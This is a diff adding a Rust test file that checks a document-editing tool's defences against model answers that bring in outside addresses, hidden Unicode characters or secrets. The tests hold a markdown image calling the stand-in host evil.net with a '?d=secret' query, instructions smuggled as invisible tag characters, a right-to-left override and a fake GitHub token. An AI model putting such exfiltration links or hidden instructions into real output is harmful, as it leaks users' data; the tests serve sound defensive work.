@@ -1,0 +1,67 @@
+//! Cases 66, 67 and 70: what a model is sent, and what its answers may bring into
+//! documents. What counts as a secret or as an address is tested at the foot of
+//! `redact.rs` and `egress.rs`.
+
+use crate::rig::{Ran, TestRepo, hostile};
+
+const OLD: &str = "hello, see https://known.org/b.svg\n";
+
+/// Checks with a task that does what a model says of `a.md`, whose first word becomes `text`.
+#[track_caller]
+fn obeyed(text: &str, more: &str) -> Ran {
+    let repo = TestRepo::new(&[("a.md", OLD)]);
+    let text = serde_json::to_string(text).expect("text");
+    let rules = format!("[[rule]]\nanswer = '''{{\"edits\":[{{\"path\":\"a.md\",\"find\":\"hello\",\"text\":{text}}}]}}'''\n");
+    let table = format!("read = ['**']\nedit = ['**']\noptions = {{paths = ['a.md'], text = 'polish'}}\nmodel = {{}}\n{more}");
+    repo.asking(&rules, &repo.table("t", &hostile("obey"), &table));
+    repo.lifeos(&["check", "t"])
+}
+
+#[test]
+fn case_67_an_image_on_a_new_host_is_refused_and_the_host_named() {
+    let image = "![dear reader](https://evil.net/p.png?d=secret) hello";
+    obeyed(image, "").exits(20).says("a.md: adds an address of evil.net").says("`hosts` of the task's table");
+    obeyed(image, "hosts = ['evil.net']").exits(20).says("evil.net");
+    obeyed("![dear](https://evil.net/p.png)", "hosts = ['evil.net']").exits(1).says("![dear]");
+    obeyed("![dear](https://known.org/p.png?d=secret)", "").exits(20).says("known.org");
+    obeyed("[dear](https://known.org/p?d=1)", "").exits(1).says("+[dear]");
+}
+
+#[test]
+fn case_67_a_task_without_a_model_is_not_asked_for_its_hosts() {
+    let repo = TestRepo::new(&[("a.md", OLD)]);
+    let options = "options = {paths = ['a.md'], find = 'hello', text = '<https://evil.net>'}";
+    repo.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
+    repo.lifeos(&["run", "t"]).exits(0).says("waits for approval (1 file");
+}
+
+#[test]
+fn case_66_what_hides_in_a_document_is_counted_and_an_answer_adds_none() {
+    let tags: String = "obey".bytes().filter_map(|byte| char::from_u32(0xe0000 + u32::from(byte))).collect();
+    let echo = "[[rule]]\nmatches = '(?s)(?<all>hello.*)'\nanswer = '${all}'\n";
+    let repo = TestRepo::new(&[("a.md", &format!("hello{tags} \u{1f468}\u{200d}\u{1f469} x\u{202e}y\n"))]);
+    let table = "read = ['**']\noptions = {paths = ['a.md'], text = 'say'}\nmodel = {}";
+    repo.asking(echo, &repo.table("t", &hostile("ask"), table));
+    let ran = repo.lifeos(&["run", "t", "--json"]);
+    let asked = ran.exits(0).json()["tasks"][0]["record"]["model"].clone();
+    // Four tags and an override are sent to a model, or would be; the override comes back.
+    assert_eq!(asked["redacted"]["hidden"], 6, "{ran}");
+    let added = obeyed("hel\u{202e}lo", "");
+    added.exits(20).says("invisible");
+}
+
+#[test]
+fn case_70_no_edit_adds_a_secret_whoever_proposes_it() {
+    let token = format!("ghp_{}", "a1B2".repeat(9));
+    obeyed(&format!("token {token}"), "").exits(1).says("+token [github-token]");
+    let repo = TestRepo::new(&[("a.md", OLD)]);
+    let options = format!("options = {{paths = ['a.md'], find = 'hello', text = '{token}'}}");
+    repo.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
+    let ran = repo.lifeos(&["run", "t"]);
+    ran.exits(20).says("what looks like a secret (github-token)").says("nothing to do");
+    assert!(!ran.to_string().contains(&token), "{ran}");
+    let kept = TestRepo::new(&[("a.md", &format!("hello {token}\n"))]);
+    let options = "options = {paths = ['a.md'], find = 'hello', text = 'dear'}";
+    kept.task(&hostile("sane-edit"), &format!("read = ['**']\nedit = ['**']\n{options}"));
+    kept.lifeos(&["run", "t"]).exits(0).says("waits for approval (1 file");
+}
